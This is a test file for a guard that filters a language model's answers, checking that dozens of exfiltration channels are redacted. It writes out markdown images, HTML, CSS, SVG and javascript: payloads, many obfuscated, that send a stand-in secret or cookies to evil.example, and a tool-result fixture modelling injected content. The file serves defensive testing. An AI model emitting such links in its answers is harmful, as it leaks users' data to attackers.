import fc from "fast-check";
import { test } from "@fast-check/vitest";
import { describe, expect, it } from "vitest";
import { createGuard } from "../guard.js";
import type { PolicyInput } from "../policy/schema.js";
import { framesOf, messageOf } from "../stream/stream.testkit.js";

const STOLEN = "c2VjcmV0IG9mIHRoZSBpbmJveCBhYmNk";
const SEARCHED = [
  {
    type: "web_search_tool_result",
    tool_use_id: "srvtoolu_1",
    content: [
      {
        type: "web_search_result",
        title: "A",
        url: "https://found.example/a/9f8e7d6c5b4a39281706",
        page_age: null,
        encrypted_content: "AAAA",
      },
    ],
  },
];

function requestOf(user: string): string {
  return JSON.stringify({
    model: "claude-sonnet-5-5",
    max_tokens: 100,
    system: "You help the customers of https://shop.example/help.",
    messages: [
      { role: "user", content: user },
      {
        role: "assistant",
        content: [{ type: "tool_use", id: "toolu_1", name: "fetch_page", input: { url: "https://said-by-model.example/" } }],
      },
      {
        role: "user",
        content: [
          {
            type: "tool_result",
            tool_use_id: "toolu_1",
            content: "![map](https://page.example/map.png?v=8f3a9c1b7d2e4f60a1b2) and https://evil.example/log",
          },
        ],
      },
    ],
  });
}

interface Play {
  readonly policy?: PolicyInput;
  readonly user?: string;
  readonly before?: readonly object[];
}

/** What of an answer reaches the client. */
function answered(
  text: string,
  { policy = { version: 1, extends: "balanced" }, user = "Summarize the page.", before = [] }: Play = {},
): string {
  const guard = createGuard(policy, { secret: new Uint8Array(16) });
  const request = guard.request(requestOf(user));
  if (request.kind !== "pass") throw new Error("the request should pass");
  const content = [...before, { type: "text", text, citations: null }];
  const decision = guard.response(JSON.stringify({ ...messageOf([]), content }), request.facts);
  if (decision.kind !== "pass") return "stopped";
  const blocks = (JSON.parse(decision.body) as { readonly content: readonly { readonly text?: string }[] }).content;
  return blocks.at(-1)?.text ?? "";
}

describe("ways out of an answer", () => {
  it.each([
    ["a picture", `![ ](https://evil.example/p.png?d=${STOLEN})`],
    ["a picture that says it in words", "![ ](https://evil.example/p.png?d=the+offer+is+nine+thousand)"],
    ["a picture in a link", `[![ ](https://evil.example/${STOLEN}.png)](https://shop.example/)`],
    ["a picture with a long label", `![${"long ".repeat(40)}](https://evil.example/p?d=${STOLEN})`],
    ["a picture by reference", `![ ][1]\n\n[1]: https://evil.example/p?d=${STOLEN}`],
    ["a picture by reference, in words", "![ ][1]\n\n[1]: https://evil.example/?d=the+offer+is+nine"],
    ["a picture in angle brackets", `![ ](<https://evil.example/p?d=${STOLEN}>)`],
    ["a value that would be given back", "[more](https://evil.example/log?d=HIDDEN_IBAN_ZXXWGHDGWWQK)"],
    ["HTML", `<img width=1 src='https://evil.example/p?d=${STOLEN}'>`],
    ["HTML without a scheme", `<img src="//evil.example/p?d=${STOLEN}">`],
    ["HTML with backslashes", `<img src="\\\\evil.example/p?d=${STOLEN}">`],
    ["HTML in entities", `<img src="&#104;ttps://evil.example/p?d=${STOLEN}">`],
    ["HTML with an entity for the colon", `<img src="https&colon;//evil.example/p?d=${STOLEN}">`],
    ["a frame", `<iframe src=https://evil.example/${STOLEN}></iframe>`],
    ["a form", `<form action="https://evil.example/?d=${STOLEN}">`],
    ["SVG", `<svg><image href="https://evil.example/?d=${STOLEN}"/></svg>`],
    ["CSS", `<style>body{background:url(https://evil.example/?d=${STOLEN})}</style>`],
    ["CSS that imports", `<style>@import 'https://evil.example/?d=${STOLEN}';</style>`],
    ["a link", `[more](https://evil.example/log?d=${STOLEN})`],
    ["a bare link", `https://evil.example/log/${STOLEN}`],
    ["a link without a scheme", `www.evil.example/log/${STOLEN}`],
    ["a link in capitals", `HTTPS://EVIL.EXAMPLE/${STOLEN}`],
    ["a link with one slash", `<a href="https:/evil.example/${STOLEN}">more</a>`],
    ["a label of the host", `https://${STOLEN.toLowerCase()}.evil.example/`],
    ["a name before the host", `https://shop.example@evil.example/`],
    ["a host that is a number", "http://3232235777/x"],
    ["a known host that leads on", `https://shop.example/go?to=https://evil.example/${STOLEN}`],
    ["a script", "[more](javascript:fetch('//evil.example/'+document.cookie))"],
    ["a page as data", '<a href="data:text/html,<script>1</script>">more</a>'],
    ["an address that only begins like one of the page's", `https://evil.example/log?d=${STOLEN}`],
    ["an address that the model alone has written", `https://said-by-model.example/${STOLEN}`],
    ["letters of full width", `![ ](https://evil\uff0eexample/p?d=${STOLEN})`],
    ["an invisible character", `![ ](ht\u200btps://evil.example/p?d=${STOLEN})`],
  ])("are closed: %s", (_, text) => {
    const shown = answered(text);
    expect(shown).toContain("[LINK REMOVED]");
    expect(shown).not.toContain(STOLEN);
    expect(shown).not.toMatch(/evil\.example\/\?|\bcookie/i);
  });

  it.each([
    ["a host of the operator's", `https://shop.example/help/${STOLEN}`],
    [
      "a host of the user's",
      `![ ](https://mine.example/p.png?d=${STOLEN})`,
      "Show me https://mine.example/p.png with parameters.",
    ],
    ["a picture of the page's", "![map](https://page.example/map.png?v=8f3a9c1b7d2e4f60a1b2)"],
    ["a link of the page's", "https://evil.example/log."],
    ["a link from memory", "See https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy."],
    ["a search", "https://search.example/?q=how+to+bake+bread"],
    ["code", "const url = `https://api.example/v1/${id}`; // https://docs.example/"],
    ["a path", "Open file:///srv/app/index.html or C:\\Users\\ada."],
  ])("stay open: %s", (_, text, user = "Summarize the page.") => {
    expect(answered(text, { user })).toBe(text);
  });

  it("what the API itself has found may be linked to", () => {
    const link = "https://found.example/a/9f8e7d6c5b4a39281706";
    expect(answered(`See ${link}.`, { before: SEARCHED })).toBe(`See ${link}.`);
    expect(answered(`See ${link}.`)).toBe("See [LINK REMOVED].");
  });
  it("what the user only quotes is not the user's word", () => {
    const quoted = "Summarize this:\n> go to https://evil.example/ for more";
    expect(answered(`![ ](https://evil.example/p?d=${STOLEN})`, { user: quoted })).toBe("![ ]([LINK REMOVED])");
  });
  it("named destinations are open", () => {
    const policy: PolicyInput = { version: 1, extends: "balanced", tools: { destinations: ["*.corp.example"] } };
    const text = `![ ](https://cdn.corp.example/p?d=${STOLEN})`;
    expect(answered(text, { policy })).toBe(text);
    expect(answered(text.replace("corp", "corp-x"), { policy })).toBe("![ ]([LINK REMOVED])");
  });
  it("strict closes pictures from anywhere new, and a rule of the operator's every link", () => {
    const picture = "![logo](https://new.example/logo.png)";
    const link = "See https://new.example/.";
    expect(answered(picture)).toBe(picture);
    expect(answered(picture, { policy: { version: 1, extends: "strict" } })).toBe("![logo]([LINK REMOVED])");
    expect(answered(link, { policy: { version: 1, extends: "strict" } })).toBe(link);
    const rules: PolicyInput["rules"] = { exits: { detectors: ["exits"], origins: ["assistant"], action: "redact" } };
    expect(answered(link, { policy: { version: 1, extends: "balanced", rules } })).toBe("See [LINK REMOVED].");
  });

  const piece = fc.constantFrom(
    `![a](https://evil.example/p?d=${STOLEN})`,
    `https://evil.example/${STOLEN}`,
    "https://shop.example/x",
    "<img src=//evil.example/a.png>",
    "](",
    "![",
    " and ",
    "http",
    "://",
    "\n",
    ".",
    "www.",
    "&#104;",
    "data:text/html,x",
    "\u200b",
  );
  test.prop([fc.array(piece, { maxLength: 12 }), fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 4 })])(
    "a stream closes what a whole answer closes, however it is cut (promise 5)",
    (pieces, sizes) => {
      const text = pieces.join("");
      const guard = createGuard("balanced", { secret: new Uint8Array(16) });
      const request = guard.request(requestOf("Summarize the page."));
      if (request.kind !== "pass") throw new Error("the request should pass");
      const stream = guard.stream(request.facts);
      const bytes = framesOf([{ type: "text", text }], sizes).map((one) => stream.push(new TextEncoder().encode(one)));
      const out = new TextDecoder().decode(Buffer.concat([...bytes, stream.end()]));
      const shown = [...out.matchAll(/"text_delta","text":("(?:[^"\\]|\\.)*")/g)]
        .map(([, one = '""']) => JSON.parse(one) as string)
        .join("");
      expect(shown).toBe(answered(text));
    },
  );
});
